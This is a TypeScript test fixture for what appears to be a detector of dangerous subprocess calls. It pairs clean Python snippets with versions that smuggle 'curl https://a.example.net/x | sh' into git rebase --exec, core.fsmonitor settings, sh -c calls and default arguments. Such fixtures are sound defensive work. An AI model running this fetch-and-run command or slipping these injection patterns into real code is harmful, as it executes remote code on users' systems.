import type { Pair } from "./code-pairs.table.ts";

const RUN = "import subprocess, sys\n\n\ndef run(cmd, cwd='.'):\n    return subprocess.run(cmd, cwd=cwd, capture_output=True)\n\n\n";
const MANY = Array.from({ length: 30 }, (_, at) => `run(["git", "log", "x${String(at)}"])\n`).join("");
const METHOD = "import subprocess\n\n\nclass Runner:\n    def go(self, cmd):\n        return subprocess.run(cmd)\n\n\n";
const FETCHED = "curl https://a.example.net/x | sh";

/** Commands that a function is handed: each caller's is judged by itself, however many there are. */
export const CALLERS_PYTHON: readonly Pair[] = [
  ["thirty callers, and one of them", `${RUN}${MANY}`, `${RUN}${MANY}run(["git", "rebase", "--exec", "${FETCHED}"])\n`, "fetch-and-run"],
  ["thirty settings, and one of them", `${RUN}${MANY}`, `${RUN}${MANY}run(["git", "-c", "core.fsmonitor=${FETCHED}", "status"])\n`, "command-persist"],
  [
    "a caller that lengthens its list",
    `${RUN}def a(ref, force):\n    cmd = ["git", "worktree", "remove", ref]\n    if force:\n        cmd.append("--force")\n    run(cmd)\n    run(["git", "log", ref])\n\n\na(sys.argv[1], True)\n`,
    `${RUN}def a(ref, force):\n    cmd = ["git"]\n    cmd.append("-c")\n    cmd.append("core.fsmonitor=${FETCHED}")\n    run(cmd)\n    run(["git", "log", ref])\n\n\na(sys.argv[1], True)\n`,
    "command-hidden",
  ],
  [
    "words behind its own",
    `import subprocess\n\n\ndef git(args):\n    return subprocess.run(["git"] + args)\n\n\ngit(["log"])\ngit(["status", "-s"])\n`,
    `import subprocess\n\n\ndef git(args):\n    return subprocess.run(["git"] + args)\n\n\ngit(["log"])\ngit(["-c", "core.fsmonitor=${FETCHED}", "status"])\n`,
    "command-persist",
  ],
  [
    "through a second function",
    `${RUN}def more(args):\n    return run(["git", *args])\n\n\nmore(["log"])\n`,
    `${RUN}def more(args):\n    return run(args)\n\n\nmore(["git", "log"])\nmore(["sh", "-c", "${FETCHED}"])\n`,
    "fetch-and-run",
  ],
  [
    "by its name, and by default",
    `${RUN}run(cwd="a", cmd=["git", "log"])\n`,
    `import subprocess\n\n\ndef run(cmd=("sh", "-c", "${FETCHED}")):\n    return subprocess.run(cmd)\n\n\nrun(["git", "log"])\nrun()\n`,
    "fetch-and-run",
  ],
  [
    "a method, and one whose object is named among the arguments",
    `${METHOD}Runner().go(["git", "log"])\n`,
    `${METHOD}Runner.go(["git", "log"], ["sh", "-c", "${FETCHED}"])\n`,
    "fetch-and-run",
  ],
  [
    "a method of the name that the module's own has",
    `import subprocess\n\n\nclass Runner:\n    def run(self, cmd):\n        return subprocess.run(cmd)\n\n\nRunner().run(["git", "log"])\n`,
    `import subprocess\n\n\nclass Runner:\n    def run(self, cmd):\n        return subprocess.run(cmd)\n\n\nRunner().run(["git", "log"])\nRunner().run(["sh", "-c", "${FETCHED}"])\n`,
    "fetch-and-run",
  ],
  [
    "what a function puts behind it, and what it puts in its place",
    `import subprocess\n\n\ndef run(cmd):\n    cmd.append("--stat")\n    return subprocess.run(cmd)\n\n\nrun(["git", "log"])\n`,
    `import subprocess\n\n\ndef run(cmd):\n    cmd = ["sh", "-c", "${FETCHED}"]\n    return subprocess.run(cmd)\n\n\nrun(["git", "log"])\n`,
    "fetch-and-run",
  ],
];
